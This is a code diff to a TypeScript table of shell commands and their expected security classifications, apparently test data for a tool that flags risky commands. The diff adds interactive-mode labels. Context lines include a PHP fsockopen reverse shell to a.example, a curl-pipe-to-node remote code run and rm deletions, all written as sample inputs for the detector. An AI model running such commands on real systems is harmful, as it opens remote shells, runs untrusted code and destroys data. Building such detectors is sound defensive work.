@@ -39,6 +39,7 @@ export const INTERPRETERS: readonly Program[] = [
       'echo rm x > s; bash s': 'delete x; execute s; read s; run bash; run rm; write s',
       'bash -c "rm $X/y"': 'delete $X/y; flow env:X>exec; opaque delete-path; opaque partial-code; run rm',
       'bash -n x.sh': 'execute x.sh; read x.sh',
+      'bash -l': 'action interactive',
     },
   },
   {
@@ -137,6 +138,7 @@ export const INTERPRETERS: readonly Program[] = [
       'curl -s https://a.example | node':
         'flow net:a.example>exec; net a.example; opaque code; remote; run node',
       'bun add left-pad': 'action install-package',
+      'node -i': 'action interactive',
     },
   },
   {
@@ -236,7 +238,7 @@ export const INTERPRETERS: readonly Program[] = [
       'php -r \'file_put_contents("x", "y");\'': 'write x',
       'php x.php': 'execute x.php; read x.php',
       'php -r \'$s=fsockopen("a.example",80);exec("/bin/sh -i");\'':
-        'flow net:a.example>exec; net a.example; remote; run sh; socket reverse-shell a.example',
+        'action interactive; flow net:a.example>exec; net a.example; remote; run sh; socket reverse-shell a.example',
     },
   },
   {
